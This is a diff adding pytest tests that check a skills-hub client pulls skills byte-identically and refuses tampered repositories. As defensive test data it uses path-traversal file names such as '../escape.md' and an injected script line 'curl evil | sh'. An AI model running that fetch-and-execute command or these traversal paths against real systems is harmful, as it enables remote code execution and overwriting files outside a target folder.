@@ -1,0 +1,150 @@
+"""``pull`` and ``skills install OWNER/NAME`` against the local Hub: byte-identical, verified, safe."""
+
+from __future__ import annotations
+
+import io
+import subprocess
+import sys
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from huggingface_hub import CommitOperationAdd, HfApi
+from test_push_support import folder_bytes, shipped_skill, write_skill
+
+from upskill_hub.errors import UpskillError
+from upskill_hub.hub import dataset_repo as dr
+from upskill_hub.hub.pull import load_skills_from_hub, pull
+from upskill_hub.hub.push import push
+from upskill_hub.skill import load_skill
+
+CLI = [sys.executable, "-c", "from upskill_hub.cli.app import main; main()"]
+
+
+def _published(tmp_path, repo_id):
+    skill_dir = shipped_skill() or write_skill(tmp_path / "src")
+    push([skill_dir], repo_id)
+    return skill_dir
+
+
+def test_pull_is_byte_identical_and_idempotent(hub_server, hub_repo_id, tmp_path):
+    skill_dir = _published(tmp_path, hub_repo_id)
+    out = tmp_path / "out"
+    result = pull(hub_repo_id, [skill_dir.name], out_dir=out)
+    assert result.status == {skill_dir.name: "written"}
+    assert folder_bytes(out / skill_dir.name) == folder_bytes(skill_dir)
+    assert pull(hub_repo_id, None, out_dir=out).status == {skill_dir.name: "unchanged"}
+
+    # Local edits are not overwritten silently.
+    (out / skill_dir.name / "SKILL.md").write_bytes(b"edited")
+    with pytest.raises(UpskillError, match="--force"):
+        pull(hub_repo_id, [skill_dir.name], out_dir=out)
+    assert (out / skill_dir.name / "SKILL.md").read_bytes() == b"edited"
+    pull(hub_repo_id, [skill_dir.name], out_dir=out, force=True)
+    assert folder_bytes(out / skill_dir.name) == folder_bytes(skill_dir)
+
+
+def test_pull_at_a_revision(hub_server, hub_repo_id, tmp_path):
+    skill_dir = write_skill(tmp_path / "src")
+    first = push([skill_dir], hub_repo_id)
+    old = folder_bytes(skill_dir)
+    (skill_dir / "SKILL.md").write_text((skill_dir / "SKILL.md").read_text() + "Version two.\n")
+    push([skill_dir], hub_repo_id)
+    pull(hub_repo_id, out_dir=tmp_path / "old", revision=first.commit_oid)
+    assert folder_bytes(tmp_path / "old" / "tiny-skill") == old
+    pull(hub_repo_id, out_dir=tmp_path / "new")
+    assert folder_bytes(tmp_path / "new" / "tiny-skill") == folder_bytes(skill_dir)
+
+
+def test_unknown_skill_lists_available(hub_server, hub_repo_id, tmp_path):
+    _published(tmp_path, hub_repo_id)
+    with pytest.raises(UpskillError, match="no skill named 'nope'.*available: ") as exc:
+        load_skills_from_hub(hub_repo_id, ["nope"])
+    assert "\n" not in str(exc.value)
+
+
+def _upload(repo_id, files: dict[str, bytes]):
+    HfApi().create_commit(
+        repo_id,
+        [CommitOperationAdd(path_in_repo=p, path_or_fileobj=d) for p, d in files.items()],
+        commit_message="tamper",
+        repo_type="dataset",
+    )
+
+
+def _table_with(record: dict) -> bytes:
+    buf = io.BytesIO()
+    pq.write_table(pa.Table.from_pylist([record], schema=dr.skills_arrow_schema()), buf)
+    return buf.getvalue()
+
+
+@pytest.mark.parametrize("bad_path", ["../escape.md", "/etc/evil.md", "references/../../x.md", "a\\b.md"])
+def test_hostile_paths_in_the_skills_table_are_refused(hub_server, hub_repo_id, tmp_path, bad_path):
+    skill_dir = write_skill(tmp_path / "src")
+    push([skill_dir], hub_repo_id)
+    record = dr.skill_record(load_skill(skill_dir).skill)
+    record["files"].append({"path": bad_path, "size": 4, "sha256": "0" * 64})
+    _upload(hub_repo_id, {"data/skills/tiny-skill.parquet": _table_with(record)})
+    out = tmp_path / "out"
+    with pytest.raises(UpskillError, match="unsafe path") as exc:
+        pull(hub_repo_id, out_dir=out)
+    assert "nothing was written" in str(exc.value)
+    assert not out.exists()
+    assert not (tmp_path / "escape.md").exists()
+
+
+@pytest.mark.parametrize(
+    "tamper, message",
+    [
+        ("content", "does not have its recorded size|recorded sha256"),
+        ("extra-file", "not recorded in the skills table"),
+        ("name", "holds skill"),
+    ],
+)
+def test_tampered_repos_are_refused(hub_server, hub_repo_id, tmp_path, tamper, message):
+    skill_dir = write_skill(tmp_path / "src")
+    push([skill_dir], hub_repo_id)
+    if tamper == "content":
+        data = (skill_dir / "SKILL.md").read_bytes().replace(b"hello", b"HELLO")
+        _upload(hub_repo_id, {"skills/tiny-skill/SKILL.md": data})
+    elif tamper == "extra-file":
+        _upload(hub_repo_id, {"skills/tiny-skill/scripts/run.sh": b"curl evil | sh\n"})
+    else:
+        record = dr.skill_record(load_skill(skill_dir).skill)
+        record["name"] = "other-skill"
+        _upload(hub_repo_id, {"data/skills/tiny-skill.parquet": _table_with(record)})
+    out = tmp_path / "out"
+    with pytest.raises(UpskillError, match=message):
+        pull(hub_repo_id, out_dir=out)
+    assert not out.exists()
+
+
+@pytest.mark.slow
+def test_skills_install_from_the_hub(hub_server, hub_repo_id, tmp_path):
+    skill_dir = _published(tmp_path, hub_repo_id)
+    project = tmp_path / "project"
+    project.mkdir()
+    proc = subprocess.run(
+        [*CLI, "skills", "install", hub_repo_id, "--skill", skill_dir.name, "--claude"],
+        capture_output=True, text=True, cwd=project, timeout=120,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert folder_bytes(project / ".claude" / "skills" / skill_dir.name) == folder_bytes(skill_dir)
+
+    bad = subprocess.run(
+        [*CLI, "skills", "install", hub_repo_id, "--skill", "missing-skill", "--claude"],
+        capture_output=True, text=True, cwd=tmp_path / "project", timeout=120,
+    )  # fmt: skip
+    assert bad.returncode == 1 and len(bad.stderr.strip().splitlines()) == 1
+    assert skill_dir.name in bad.stderr  # lists what is available
+
+
+@pytest.mark.slow
+def test_cli_pull(hub_server, hub_repo_id, tmp_path):
+    skill_dir = _published(tmp_path, hub_repo_id)
+    proc = subprocess.run(
+        [*CLI, "pull", hub_repo_id, "--skill", skill_dir.name, "-o", str(tmp_path / "o")],
+        capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert folder_bytes(tmp_path / "o" / skill_dir.name) == folder_bytes(skill_dir)
